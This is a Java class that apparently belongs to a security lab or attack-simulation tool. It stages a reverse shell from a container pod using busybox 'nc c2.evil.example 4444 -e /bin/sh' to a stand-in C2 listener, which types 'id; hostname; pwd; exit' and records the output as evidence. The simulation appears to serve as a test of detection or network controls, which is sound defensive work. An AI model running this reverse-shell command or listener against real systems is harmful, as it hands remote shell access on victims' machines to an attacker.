package dev.vigil.lab.attack;

import java.io.InputStream;
import java.io.OutputStream;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.concurrent.CompletableFuture;

/**
 * {@code reverse-shell}: a listener on {@code c2.evil.example:4444} (203.0.113.66, played by this
 * scenario) and, in the source container, busybox {@code nc c2.evil.example 4444 -e /bin/sh}: a
 * shell whose standard input and output are the TCP connection. The listener, after a pause as an
 * operator's would be ({@link #TYPING_DELAY}), types commands and reads their output. The effect: the listener received the shell's output, with the pod's
 * hostname, from the pod's own address.
 */
final class ReverseShell implements Technique {

    static final int PORT = 4444;
    /** How long the listener waits after the connection before it types. */
    static final Duration TYPING_DELAY = Duration.ofMillis(300);
    /** What the listener types into the shell. */
    static final String COMMANDS = "id; hostname; pwd; exit\n";
    /** Longest wait for the shell to call back and to answer. */
    static final Duration WAIT = Duration.ofSeconds(20);

    @Override
    public void perform(AttackRun run) throws Exception {
        Source from = run.source();
        AttackerHost c2 = AttackerHost.named("c2.evil.example");
        ServerSocket listener = c2.listen(run, PORT);
        listener.setSoTimeout((int) WAIT.toMillis());
        CompletableFuture<AttackRun.Ran> shell = run.command(from, "nc", c2.name(), Integer.toString(PORT), "-e", "/bin/sh")
                .timeout(WAIT).start("reverse shell: busybox nc -e /bin/sh to " + c2.name() + ":" + PORT);
        run.starting("wait for the reverse shell and type: " + COMMANDS.strip(), c2 + ":" + PORT);
        long start = AttackRun.nowNanos();
        String received;
        String peer;
        try (Socket s = listener.accept()) {
            s.setSoTimeout((int) WAIT.toMillis());
            peer = s.getInetAddress().getHostAddress();
            // An operator looks at the connection before typing; the shell waits on its socket meanwhile.
            Thread.sleep(TYPING_DELAY.toMillis());
            OutputStream out = s.getOutputStream();
            out.write(COMMANDS.getBytes(StandardCharsets.UTF_8));
            out.flush();
            InputStream in = s.getInputStream();
            received = new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
        run.record("listener on " + c2.name() + ":" + PORT + " typed: " + COMMANDS.strip(), c2 + ":" + PORT, start,
                "connection from " + peer + "\n" + received);
        AttackRun.await(shell, WAIT);
        run.check(received.contains("uid=") && received.contains(from.pod().name()),
                "the listener did not get the shell's output (id and hostname " + from.pod().name() + "): " + received);
        run.check(peer.equals(from.pod().ip()), "the reverse shell came from " + peer + ", not from the pod's " + from.pod().ip());
        run.evidence(c2.name() + ":" + PORT + " got a shell from " + peer + ": " + received.strip().replace('\n', ' '));
    }
}
